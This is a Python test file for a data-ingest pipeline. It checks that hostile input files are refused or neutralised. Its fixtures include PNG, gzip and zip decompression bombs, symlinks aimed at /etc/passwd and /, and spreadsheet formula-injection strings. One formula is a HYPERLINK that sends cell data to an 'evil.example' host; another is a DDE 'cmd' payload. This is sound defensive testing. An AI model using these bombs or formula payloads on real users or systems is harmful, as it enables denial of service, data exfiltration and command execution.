"""Hostile or odd files given as data.path (issue 34): each is refused with one line naming the file and
what to do, before anything is written, with memory bounded by what the file's header may claim -- or,
for the harmless oddities (a ';'-delimited CSV, labels written 0.0/1.0), accepted. Every CSV the project
writes neutralises spreadsheet formulas."""

from __future__ import annotations

import ast
import gzip
import io
import os
import struct
import subprocess
import sys
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from aigc.config import DataConfig
from aigc.data.sources import MAX_CSV_BYTES, MAX_IMAGE_VALUES, MAX_SOURCE_BYTES, load_raw, load_source
from aigc.errors import DataError
from aigc.io import csv_cell, csv_safe, write_csv
from pipeline.ingest import ingest
from tests.conftest import ROOT, digit_images
from tests.test_ingest import write_folder, write_idx


def refused(cfg: DataConfig, tmp: Path) -> str:
    """Ingest of ``cfg`` into tmp/raw: the DataError's message (one line), with nothing written."""
    out = tmp / "raw"
    with pytest.raises(DataError) as err:
        ingest(cfg, str(out))
    message = str(err.value)
    assert "\n" not in message, message
    assert not out.exists() and not [p for p in tmp.iterdir() if p.name.startswith(".raw")]
    return message


def peak_traced(fn) -> tuple[int, BaseException | None]:
    """Peak bytes Python and numpy allocated while ``fn()`` ran (tracemalloc), and what it raised."""
    tracemalloc.start()
    try:
        fn()
        exc = None
    except BaseException as e:  # noqa: BLE001 (handed back to the test)
        exc = e
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, exc


# --- 1. a PNG decompression bomb among valid images ------------------------------------------------

def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(path: Path, width: int, height: int, colour: int = 0) -> Path:
    """A PNG whose header claims width x height (8-bit grey, or RGB with colour=2) and whose data holds a
    few rows of zeros: a few hundred bytes on disk; refusing it must need the header alone."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    row = 1 + width * (3 if colour == 2 else 1)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(bytes(row * 4), 9))
                     + _chunk(b"IEND", b""))
    return path


def test_a_png_decompression_bomb_is_refused_from_its_header(tmp_path: Path):
    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    bomb_png(root / "1" / "bomb.png", 30000, 30000)
    assert (root / "1" / "bomb.png").stat().st_size < 2000
    message = refused(DataConfig(source="folder", path=str(root)), tmp_path)
    assert message == (f"{root}: 1/bomb.png is 30000x30000x1 (900,000,000 pixel values), over the 67,108,864 "
                       "(4096x4096x4) an image may hold; refused before decoding it (a decompression bomb?): shrink it "
                       "to at most 4096x4096 or remove it from the folder")


def test_an_image_at_the_bound_is_accepted_and_one_above_it_is_refused(tmp_path: Path):
    assert MAX_IMAGE_VALUES == 4096 * 4096 * 4
    root = tmp_path / "big"
    root.mkdir()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (40, 40), dtype=np.uint8)).save(root / "a.png")
    bomb_png(root / "b.png", 9000, 9000, colour=2)  # 243 M values: under PIL's own bound (89 M pixels), over ours
    message = refused(DataConfig(source="folder", path=str(root)), tmp_path)
    assert message.startswith(f"{root}: b.png is 9000x9000x3 (243,000,000 pixel values), over the 67,108,864")


def _child_peak_rss_mb(root: Path) -> tuple[float, str]:
    """Peak resident memory (MiB) of a fresh Python loading the folder ``root``, and what it printed."""
    probe = ("import resource, sys\nfrom aigc.config import DataConfig\nfrom aigc.data.sources import load_source\n"
             "from aigc.errors import DataError\ntry:\n    load_source(DataConfig(source='folder', path=sys.argv[1]))\n"
             "    print('loaded')\nexcept DataError as e:\n    print('refused:', e)\n"
             "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)\n")
    res = subprocess.run([sys.executable, "-c", probe, str(root)], capture_output=True, text=True, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 0, res.stderr
    said, peak = res.stdout.strip().splitlines()[-2:]
    return float(peak), said


def test_the_png_bomb_costs_no_decoding_memory(tmp_path: Path):
    """9000x9000 RGB is 243 MB decoded, which PIL's own check lets through (81 M pixels < 89 M): refused from
    the header, the process peaks where one loading a valid 40x40 image does, not 243 MB above it."""
    (tmp_path / "valid").mkdir()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (40, 40), dtype=np.uint8)).save(tmp_path / "valid" / "a.png")
    (tmp_path / "big").mkdir()
    bomb_png(tmp_path / "big" / "b.png", 9000, 9000, colour=2)
    baseline, said = _child_peak_rss_mb(tmp_path / "valid")
    assert said == "loaded"
    peak, said = _child_peak_rss_mb(tmp_path / "big")
    assert said.startswith("refused: ") and "refused before decoding" in said
    assert peak < baseline + 50, (peak, baseline)


# --- 2. symbolic links that leave the folder -------------------------------------------------------

def test_links_leaving_the_folder_are_refused_naming_link_and_target(tmp_path: Path):
    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    outside = tmp_path / "secret.png"
    Image.fromarray(images[0]).save(outside)
    (root / "0" / "passwd.png").symlink_to("/etc/passwd")
    (root / "0" / "secret.png").symlink_to(outside)
    (root / "everything").symlink_to("/")
    message = refused(DataConfig(source="folder", path=str(root)), tmp_path)
    assert message == (f"{root}: 3 symbolic link(s) lead outside the folder: 0/passwd.png -> /etc/passwd, "
                       f"0/secret.png -> {outside}, everything -> /; they are not followed: copy what they point at "
                       "into the folder, remove them, or set data.follow_symlinks: true")


def test_a_metadata_csv_link_leaving_the_folder_is_refused(tmp_path: Path):
    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    (root / "metadata.csv").symlink_to("/etc/passwd")
    assert refused(DataConfig(source="folder", path=str(root)), tmp_path).startswith(
        f"{root}: 1 symbolic link(s) lead outside the folder: metadata.csv -> /etc/passwd;")


def test_links_inside_the_folder_are_followed_and_outside_ones_with_the_param(tmp_path: Path):
    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    (root / "1" / "again.png").symlink_to("../0/000.png")  # stays inside: followed
    (root / "loop").symlink_to(".")  # a folder link back into the folder: walked once, no loop
    ds = load_source(DataConfig(source="folder", path=str(root)))
    assert len(ds.images) == 7
    np.testing.assert_array_equal(ds.images[ds.metadata["file"].tolist().index("1/again.png"), ..., 0], images[0])
    outside = tmp_path / "extra.png"
    Image.fromarray(images[1]).save(outside)
    (root / "2" / "extra.png").symlink_to(outside)
    with pytest.raises(DataError, match="2/extra.png -> "):
        load_source(DataConfig(source="folder", path=str(root)))
    ds = load_source(DataConfig(source="folder", path=str(root), follow_symlinks=True))
    assert len(ds.images) == 8


def test_an_idx_folder_whose_images_file_is_a_link_outside_is_refused(tmp_path: Path):
    src = write_idx(tmp_path / "elsewhere-images-idx3-ubyte", digit_images(4)[0])
    (tmp_path / "mnist").mkdir()
    (tmp_path / "mnist" / "train-images-idx3-ubyte").symlink_to(src)
    with pytest.raises(DataError, match=r"1 symbolic link\(s\) lead outside the folder: train-images-idx3-ubyte -> "):
        load_source(DataConfig(source="idx", path=str(tmp_path / "mnist")))
    # the file given directly is the user's choice
    assert len(load_source(DataConfig(source="idx", path=str(tmp_path / "mnist" / "train-images-idx3-ubyte"))).images) == 4


# --- 3. compression bombs: IDX .gz, NPZ, CSV .gz ---------------------------------------------------

def gzip_bomb(path: Path, head: bytes, mib: int) -> Path:
    """``head`` then ``mib`` MiB of zeros, gzip-compressed in 1 MiB writes (the test never holds more)."""
    zeros = bytes(1 << 20)
    with gzip.GzipFile(path, "wb", compresslevel=9, mtime=0) as f:
        f.write(head)
        for _ in range(mib):
            f.write(zeros)
    return path


def test_an_idx_gzip_bomb_is_refused_after_what_its_header_promises(tmp_path: Path):
    header = struct.pack(">HBB", 0, 0x08, 3) + struct.pack(">3I", 1000, 28, 28)  # 784,000 bytes promised
    bomb = gzip_bomb(tmp_path / "bomb-images-idx3-ubyte.gz", header, 200)  # ... then 200 MiB
    assert bomb.stat().st_size < 500_000
    cfg = DataConfig(source="idx", path=str(bomb))
    peak, exc = peak_traced(lambda: load_source(cfg))
    assert isinstance(exc, DataError)
    assert str(exc) == (f"{bomb}: header says (1000, 28, 28) = 784,000 values of 1 byte(s) (765.6 KiB), but the file "
                        "decompresses to more; refused after reading 765.6 KiB (a gzip bomb or a wrong header): "
                        "recreate the file from its source")
    assert peak < 4 << 20, peak  # the promised 784 KB and gzip's buffers, never the 200 MiB
    refused(cfg, tmp_path)


def test_an_idx_header_claiming_more_than_the_bound_is_refused_before_reading(tmp_path: Path):
    header = struct.pack(">HBB", 0, 0x08, 3) + struct.pack(">3I", 200_000, 128, 128)  # 3.05 GiB
    path = tmp_path / "huge-images-idx3-ubyte.gz"
    path.write_bytes(gzip.compress(header + bytes(100)))
    assert refused(DataConfig(source="idx", path=str(path)), tmp_path) == (
        f"{path}: header says (200000, 128, 128) = 3,276,800,000 values of 1 byte(s) (3.1 GiB), over the 2 GiB a "
        "source file may decode to; refused before reading it: split it into smaller files or use fewer images")


def _patch_central_size(data: bytes, name: bytes, size: int) -> bytes:
    """The zip ``data`` with the uncompressed size of member ``name`` in its central directory set to ``size``."""
    buf = bytearray(data)
    at = buf.index(b"PK\x01\x02")
    while True:
        n = struct.unpack("<H", buf[at + 28:at + 30])[0]
        if buf[at + 46:at + 46 + n] == name:
            buf[at + 24:at + 28] = struct.pack("<I", size)
            return bytes(buf)
        at = buf.index(b"PK\x01\x02", at + 4)


def test_an_npz_whose_directory_claims_more_than_the_bound_is_refused_before_reading(tmp_path: Path):
    images, labels = digit_images(10)
    buf = io.BytesIO()
    np.savez_compressed(buf, images=images, labels=labels)
    path = tmp_path / "bomb.npz"
    path.write_bytes(_patch_central_size(buf.getvalue(), b"images.npy", 3_000_000_000))
    with zipfile.ZipFile(path) as z:
        assert z.getinfo("images.npy").file_size > MAX_SOURCE_BYTES
    message = refused(DataConfig(source="npz", path=str(path)), tmp_path)
    assert message.startswith(f"{path}: its arrays decompress to 2.8 GiB (images.npy: 2.8 GiB, ")
    assert message.endswith(" compressed), over the 2 GiB a source file may decode to; refused before reading it "
                            "(a zip bomb?): split it into smaller files")


def test_an_npz_array_header_claiming_more_than_its_member_is_refused(tmp_path: Path):
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (10**6, 4096, 4096)})
    path = tmp_path / "forged.npz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("images.npy", head.getvalue() + bytes(64))
    peak, exc = peak_traced(lambda: load_source(DataConfig(source="npz", path=str(path))))
    assert str(exc) == (f"{path}: array images.npy says it holds (1000000, 4096, 4096) uint8 (15,625 GiB), but its "
                        f"member is {len(head.getvalue()) + 64} bytes; refused before reading it (a forged header or a "
                        "truncated file): recreate the file")
    assert peak < 1 << 20


def test_a_csv_gzip_bomb_is_refused_while_decompressing_in_bounded_memory(tmp_path: Path):
    header = ("label," + ",".join(f"pixel{i}" for i in range(16)) + "\n").encode()
    line = ("0," * 16 + "0\n").encode()
    path = tmp_path / "bomb.csv.gz"
    with gzip.GzipFile(path, "wb", compresslevel=9, mtime=0) as f:
        f.write(header)
        block = line * ((1 << 20) // len(line))
        for _ in range(MAX_CSV_BYTES // len(block) + 2):
            f.write(block)
    assert path.stat().st_size < 2 << 20
    cfg = DataConfig(source="csv", path=str(path))
    peak, exc = peak_traced(lambda: load_source(cfg))
    assert str(exc) == (f"{path}: its text decompresses to more than the 256 MiB a CSV source may hold; refused after "
                        "decompressing 257 MiB, none of it kept (a decompression bomb?): split it into smaller files, "
                        "or store the images as NPZ or IDX")
    assert peak < 8 << 20, peak  # 1 MiB steps, counted and dropped


def test_a_small_gzipped_csv_still_loads(tmp_path: Path):
    images, labels = digit_images(9, size=4)
    df = pd.DataFrame(images.reshape(9, -1), columns=[f"pixel{i}" for i in range(16)])
    df.insert(0, "label", labels)
    df.to_csv(tmp_path / "d.csv.gz", index=False)  # noqa: aigc-csv (a user's file, written by the test)
    ds = load_source(DataConfig(source="csv", path=str(tmp_path / "d.csv.gz")))
    np.testing.assert_array_equal(ds.images[..., 0], images)


# --- 4. a ';'-delimited CSV ------------------------------------------------------------------------

def test_a_semicolon_csv_is_read_by_its_delimiter(tmp_path: Path):
    images, labels = digit_images(9, size=4)
    lines = ["label;" + ";".join(f"pixel{i}" for i in range(16)) + ";note"]
    lines += [f"{y};" + ";".join(map(str, im.ravel())) + ";a, b" for im, y in zip(images, labels)]
    (tmp_path / "d.csv").write_text("\n".join(lines) + "\n")
    ds = load_source(DataConfig(source="csv", path=str(tmp_path / "d.csv")))
    np.testing.assert_array_equal(ds.images[..., 0], images)
    np.testing.assert_array_equal(ds.labels, labels)
    assert ds.metadata["note"].tolist()[0] == "a, b"


def test_a_csv_without_pixel_columns_names_the_delimiter_it_looks_like(tmp_path: Path):
    (tmp_path / "d.csv").write_text("kind;width;height\ncat;3;4\ndog;5;6\n")
    assert refused(DataConfig(source="csv", path=str(tmp_path / "d.csv")), tmp_path) == (
        f"{tmp_path / 'd.csv'}: no pixel columns under any delimiter (',', ';', tab, '|'); the file looks ';'-delimited; "
        "its header reads 'kind;width;height'; expected names like pixel0, pixel1, ... or 0, 1, ...")


# --- 5. labels written as whole floats -------------------------------------------------------------

def _labelled_csv(path: Path, labels: list[str]) -> DataConfig:
    images = digit_images(len(labels), size=2)[0]
    rows = [f"{y}," + ",".join(map(str, im.ravel())) for im, y in zip(images, labels)]
    path.write_text("label,pixel0,pixel1,pixel2,pixel3\n" + "\n".join(rows) + "\n")
    return DataConfig(source="csv", path=str(path))


def test_whole_float_labels_are_integers(tmp_path: Path):
    ds = load_source(_labelled_csv(tmp_path / "d.csv", ["0.0", "1.0", "2.0", "1.0"]))
    assert ds.labels.dtype == np.int64 and ds.labels.tolist() == [0, 1, 2, 1]


@pytest.mark.parametrize("labels, row, what", [(["0.0", "1.0", "0.5", "1.5"], 2, "0.5 (2 such row(s))"),
                                               (["0", "1", "", "1"], 2, "an empty cell (1 such row(s))")],
                         ids=["half", "empty"])
def test_fractional_or_missing_labels_name_the_column_and_first_row(tmp_path: Path, labels, row, what):
    cfg = _labelled_csv(tmp_path / "d.csv", labels)
    assert refused(cfg, tmp_path) == (f"{cfg.path}: label column 'label' must hold whole numbers; row {row} (line "
                                      f"{row + 2} of the file) holds {what}; fix those labels or remove the rows")


def test_labels_that_are_not_numbers_name_the_column_and_a_value(tmp_path: Path):
    cfg = _labelled_csv(tmp_path / "d.csv", ["cat", "dog", "cat", "dog"])
    assert refused(cfg, tmp_path) == (f"{cfg.path}: label column 'label' must hold integers, got str (e.g. 'cat' "
                                      "in row 0); fix the labels or set data.label_column to the column that holds "
                                      "them")


def test_a_zipped_csv_of_two_files_is_refused(tmp_path: Path):
    path = tmp_path / "two.csv.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("a.csv", "label,pixel0\n0,1\n")
        z.writestr("b.csv", "label,pixel0\n1,2\n")
    cfg = DataConfig(source="csv", path=str(path))
    assert refused(cfg, tmp_path) == f"{path}: a zipped CSV must hold exactly one file, found 2"


# --- 6. spreadsheet formulas in what the project writes --------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote():
    for cell in ("=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(cell) == "'" + cell
    for cell in ("plain", "-5", "+1.5e3", "-0.25", "'=already", 3, -4.5, None):
        assert csv_cell(cell) == cell
    df = pd.DataFrame({"n": [-1, 2], "x": [-0.5, 1.0], "s": ["=1+1", "ok"], "=col": ["a", "-b"]})
    safe = csv_safe(df)
    assert list(safe.columns) == ["n", "x", "s", "'=col"]
    assert safe["n"].tolist() == [-1, 2] and safe["x"].tolist() == [-0.5, 1.0]
    assert safe["s"].tolist() == ["'=1+1", "ok"] and safe["'=col"].tolist() == ["a", "'-b"]
    back = pd.read_csv(io.StringIO(write_csv(df)))
    assert back["n"].dtype == np.int64 and back["n"].tolist() == [-1, 2]  # negative numbers stay numbers
    assert df["s"].tolist() == ["=1+1", "ok"]  # the caller's frame is not changed


def test_a_formula_in_folder_metadata_is_written_neutralised(tmp_path: Path):
    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*.png"))
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pd.DataFrame({"file": files, "note": [link] + ["fine"] * 5, "offset": [-3, -2, -1, 0, 1, 2]}).to_csv(
        root / "metadata.csv", index=False)  # noqa: aigc-csv (a user's file, written by the test)
    ingest(DataConfig(source="folder", path=str(root)), str(tmp_path / "raw"))
    text = (tmp_path / "raw" / "metadata.csv").read_text()
    assert "'=HYPERLINK(" in text and ",=HYPERLINK" not in text
    back = load_raw(tmp_path / "raw").metadata
    assert back["note"].iloc[0] == "'" + link
    assert back["offset"].dtype == np.int64 and back["offset"].tolist() == [-3, -2, -1, 0, 1, 2]


def test_every_csv_the_project_writes_goes_through_aigc_io():
    """No ``to_csv``, ``csv.writer`` or ``csv.DictWriter`` outside aigc/io.py's helpers."""
    writes = []
    for folder in ("aigc", "pipeline", "aigc_bench"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter"):
                    if node.attr != "to_csv" and not (isinstance(node.value, ast.Name) and node.value.id == "csv"):
                        continue
                    writes.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writes and all(w.startswith("aigc/io.py:") for w in writes), writes


@pytest.mark.slow
def test_the_ingest_stage_prints_one_line_for_a_bomb_and_no_traceback(tmp_path: Path):
    """As a user meets it: ``python -m pipeline.ingest`` (the harness and its Prefect flow) on a folder
    holding a PNG bomb ends with exit code 1 and one ``error:`` line, where it used to end in a
    Prefect traceback (DecompressionBombError); nothing is written."""
    import yaml

    images, labels = digit_images(6)
    root = write_folder(tmp_path / "imgs", images, labels)
    bomb_png(root / "1" / "bomb.png", 30000, 30000)
    params = yaml.safe_load((ROOT / "params.yaml").read_text())
    params["data"].update(source="folder", path=str(root))
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params))
    res = subprocess.run([sys.executable, "-m", "pipeline.ingest", "--params", str(tmp_path / "params.yaml"),
                          "--out", str(tmp_path / "raw")], capture_output=True, text=True, cwd=tmp_path,
                         env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=300)
    assert res.returncode == 1, res.stdout[-2000:] + res.stderr[-2000:]
    errors = [line for line in res.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: {root}: 1/bomb.png is 30000x30000x1 (900,000,000 pixel values), over the 67,108,864 "
                      "(4096x4096x4) an image may hold; refused before decoding it (a decompression bomb?): shrink it "
                      "to at most 4096x4096 or remove it from the folder"], res.stderr[-2000:]
    assert "Traceback" not in res.stdout + res.stderr and "DecompressionBomb" not in res.stdout + res.stderr
    assert not (tmp_path / "raw").exists()
